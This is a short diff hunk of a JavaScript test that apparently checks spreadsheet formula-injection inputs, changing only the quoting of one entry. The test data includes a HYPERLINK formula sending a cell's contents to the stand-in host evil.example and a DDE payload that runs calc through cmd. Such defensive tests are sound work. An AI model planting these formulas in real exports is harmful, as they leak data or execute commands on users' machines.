@@ -26,7 +26,7 @@ it('the list of a plan repeats no grade that is none, and no address', () => {
 
 it.each([
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-1+1',
   '@SUM(1)',
   '\t=1+1',
